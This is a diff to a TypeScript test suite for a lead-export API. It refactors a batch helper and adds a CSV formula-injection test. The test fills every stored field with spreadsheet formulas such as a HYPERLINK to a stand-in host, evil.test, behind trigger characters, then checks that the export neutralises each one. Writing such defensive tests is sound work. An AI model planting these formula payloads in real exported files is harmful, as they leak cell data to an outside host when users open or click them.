@@ -1,40 +1,15 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, describe, expect, it } from 'vitest';
-import { leadRow } from '../../services/sink/rows.ts';
-import { RESULT_STATUSES, scoredLead, testGateway } from '../support/gateway.ts';
+import { CSV_COLUMNS } from '../../services/lib/lead-object.ts';
+import { storedBatch as storedBatchOf, testGateway } from '../support/gateway.ts';
 
 const gw = await testGateway('gwdl');
 afterAll(() => gw.close());
 
 type Json = Record<string, unknown>;
 
-/** A batch whose leads are in ClickHouse (each written twice, as a redelivery would) and counted. */
-async function storedBatch(accountId: string, rows: number, complete: boolean) {
-  const batch = await gw.deps.batches.create(
-    {
-      account_id: accountId,
-      filename: 'my leads.csv',
-      file_path: '/uploads/x.csv',
-      source: 'csv',
-      rows_total: rows,
-    },
-    null,
-  );
-  if (!batch) throw new Error('not created');
-  const leads = Array.from({ length: rows }, (_, i) => scoredLead(accountId, batch.batch_id, i));
-  for (const version of [1, 2]) {
-    await gw.deps.clickhouse.insert({
-      table: 'leads',
-      values: leads.map((l) => leadRow(l, Date.now(), version)),
-      format: 'JSONEachRow',
-    });
-  }
-  const done = complete ? rows : rows - 1;
-  for (let i = 0; i < done; i++) {
-    const status = RESULT_STATUSES[i % 4] as string;
-    await gw.deps.batches.recordTerminal(batch.batch_id, accountId, i, status.toLowerCase() as 'qualified');
-  }
-  return batch.batch_id;
-}
+const storedBatch = (accountId: string, rows: number, complete: boolean) =>
+  storedBatchOf(gw.deps, accountId, rows, { complete });
 
 describe('GET /api/batches/{id}/download', () => {
   it('answers 409 until the batch is completed', async () => {
@@ -106,5 +81,78 @@ describe('GET /api/batches/{id}/download', () => {
     expect((await gw.json('GET', `/batches/${id}/download?format=xlsx`, undefined, alice.token)).status).toBe(
       400,
     );
+  });
+});
+
+describe('CSV formula injection', () => {
+  /** What a spreadsheet runs as a formula when a cell starts with it (OWASP: =, +, -, @, tab, CR). */
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+  const FORMULA = /^[=+\-@\t\r]/;
+
+  it('neutralises a formula in every downloaded column, on rows as stored in ClickHouse', async () => {
+    const { token, accountId } = await gw.signUp();
+    const payload = (i: number, column: string) =>
+      `${TRIGGERS[i % TRIGGERS.length]}HYPERLINK("http://evil.test/?${column}&row=${i}","x")`;
+    // Every stored value a CSV column is made of is hostile: strings start with a trigger, numbers
+    // are negative (a leading "-" is one too), the phone is "+" anyway.
+    const id = await storedBatchOf(gw.deps, accountId, TRIGGERS.length * 2, {
+      row: (r, i) => ({
+        ...r,
+        status: payload(i, 'status'),
+        score: -(i + 1),
+        full_name: payload(i, 'full_name'),
+        title_normalized: null,
+        enriched_title: payload(i, 'title'),
+        email: payload(i, 'email'),
+        email_status: payload(i, 'email_status'),
+        // Stored E.164 is shown formatted ("+1-202-..."): a leading "+" on every row.
+        phone_e164: '+12025550199',
+        phone_status: payload(i, 'phone_status'),
+        enriched_company_name: payload(i, 'company_name'),
+        domain: payload(i, 'domain'),
+        signals: [payload(i, 'signals'), 'Series B'],
+        technologies: [payload(i, 'technologies')],
+        dedup_confidence: -0.5,
+        lead_id: payload(i, 'lead_id'),
+        row_index: -(i + 1),
+        is_duplicate: 1,
+        survivor_id: payload(i, 'duplicate_of'),
+        field_sources_json: JSON.stringify({
+          company_name: payload(i, 'company_name_source'),
+          person_title: payload(i, 'title_normalized_source'),
+          signals: payload(i, 'signals_source'),
+          technologies: payload(i, 'technologies_source'),
+        }),
+        score_coverage: -0.25,
+        score_missing: [payload(i, 'evidence_missing')],
+      }),
+    });
+    const res = await gw.json('GET', `/batches/${id}/download?include=all`, undefined, token);
+    expect(res.status).toBe(200);
+    const [header, ...rows] = parse(await res.text(), { relax_column_count: false }) as string[][];
+    expect(header).toEqual([...CSV_COLUMNS]);
+    expect(rows).toHaveLength(TRIGGERS.length * 2);
+    const attacked = new Map<string, Set<string>>(CSV_COLUMNS.map((c) => [c, new Set()]));
+    for (const row of rows) {
+      row.forEach((cell, c) => {
+        const column = CSV_COLUMNS[c] as string;
+        expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
+        // Neutralised, not mangled: the apostrophe, then the stored value as it was.
+        if (cell.startsWith("'") && FORMULA.test(cell.slice(1))) attacked.get(column)?.add(cell[1] as string);
+      });
+    }
+    // Every column really carried a formula (so the check above saw each one), strings with every trigger.
+    for (const [column, triggers] of attacked) {
+      expect(triggers.size, `${column} carried no formula`).toBeGreaterThan(0);
+    }
+    const numeric = new Set(['score', 'dedup_confidence', 'row_index', 'evidence_coverage']);
+    for (const [column, triggers] of attacked) {
+      if (!numeric.has(column) && column !== 'phone')
+        expect([...triggers].sort(), column).toEqual([...TRIGGERS].sort());
+    }
+    // Rows come in row_index order, here the reverse of i (negative indices).
+    const first = rows.find((r) => r[CSV_COLUMNS.indexOf('full_name')]?.includes('&row=0"')) as string[];
+    expect(first[CSV_COLUMNS.indexOf('full_name')]).toBe(`'${payload(0, 'full_name')}`);
+    expect(first[CSV_COLUMNS.indexOf('signals')]).toBe(`'${payload(0, 'signals')}; Series B`);
   });
 });
